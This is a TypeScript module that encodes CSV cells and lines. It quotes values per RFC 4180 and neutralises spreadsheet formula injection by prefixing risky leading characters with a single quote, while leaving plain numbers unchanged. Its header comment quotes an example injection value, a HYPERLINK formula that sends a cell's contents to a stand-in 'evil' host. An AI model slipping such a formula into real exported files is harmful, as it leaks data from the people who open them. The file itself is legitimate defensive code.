/**
 * The one CSV cell encoder of the project. Every CSV the backend or the console writes
 * (sensors.csv, the ordered-sensors file sensory-<date>.csv, the console's list exports) goes
 * through `csvCell` / `csvLine`, so quoting and the spreadsheet-formula guard live in one place.
 *
 * Formula (CSV) injection, after the OWASP guidance: a spreadsheet evaluates a cell that starts
 * with `=`, `+`, `-` or `@` (and, in some applications, after a leading tab or carriage return) as
 * a formula — a tag value `=HYPERLINK("http://evil/?"&A1;"click")` would run when staff open the
 * file. Such a cell is prefixed with a single quote, which spreadsheets read as "text follows", so
 * the value stays readable (`'=HYPERLINK(…)`) and is never evaluated. The full-width forms
 * (`＝ ＋ － ＠`), which some spreadsheet locales also accept as formula starts, are guarded too.
 *
 * Numbers are data, not formulas: a JavaScript number, and a string that is exactly a plain decimal
 * number (`-3.5`, `+2`, `-1e-3`, as a factor or a numeric tag leaves the database as text), are
 * written unchanged. OWASP suggests escaping every such cell, but a plain number cannot carry a
 * formula (no operator, reference or function can follow the sign), and a quote in front would
 * turn numeric columns such as negative calibration factors into text for everyone who sums or
 * sorts them. Anything else starting with a sign (`-1+2`, `+48 600 100 200`, `-`) is prefixed.
 */

/** Byte-order mark: spreadsheets read the file as UTF-8 with it. */
export const CSV_BOM = '\uFEFF';
/** The separator of the server's CSV files (the spec: semicolon). */
export const CSV_SEPARATOR = ';';
/** Line end of every CSV line (RFC 4180). */
export const CSV_EOL = '\r\n';

/** The characters that make a spreadsheet treat a cell as a formula when they come first. */
export const FORMULA_START_CHARS = '=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20';
/** FORMULA_START_CHARS as the body of a regular expression's character class. */
const FORMULA_CLASS = FORMULA_START_CHARS.replace(/[-\\\]^]/g, '\\$&');
const FORMULA_START = new RegExp(`^[${FORMULA_CLASS}]`);
/** A plain decimal number: optional sign, digits with an optional fraction, optional exponent. */
export const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A text written as it is with the `;` separator: no formula start, no `;`, quote, CR or LF. */
const PLAIN_TEXT = new RegExp(`^(?![${FORMULA_CLASS}])[^;"\\r\\n]*$`);

/** The text with a leading single quote when a spreadsheet would read it as a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** The text of a value: strings as they are, numbers and booleans printed, lists comma-joined, dates ISO. */
function cellText(value: unknown): string {
  if (typeof value === 'string') return value;
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (Array.isArray(value)) return value.join(',');
  if (value instanceof Date) return value.toISOString();
  throw new Error(`Unhandled CSV value: ${JSON.stringify(value)}`);
}

/**
 * One cell: null and undefined are empty; formula starts are neutralised; quoted (RFC 4180, quotes
 * doubled) when it holds the separator, a quote, CR or LF. Objects throw (the spec: an unhandled
 * CSV value is an error).
 */
export function csvCell(value: unknown, separator: string = CSV_SEPARATOR): string {
  if (value === null || value === undefined) return '';
  // The common cases in one step each (a streamed export writes millions of cells): a number never
  // needs the guard or quotes; a text with no formula start, separator, quote or line break is
  // written as it is.
  if (typeof value === 'number') return String(value);
  if (typeof value === 'string' && separator === CSV_SEPARATOR && PLAIN_TEXT.test(value)) return value;
  const text = typeof value === 'number' ? String(value) : neutraliseFormula(cellText(value));
  const mustQuote = text.includes(separator) || /["\r\n]/.test(text);
  return mustQuote ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One line of cells, ended by CRLF. */
export function csvLine(cells: readonly unknown[], separator: string = CSV_SEPARATOR): string {
  return cells.map((c) => csvCell(c, separator)).join(separator) + CSV_EOL;
}
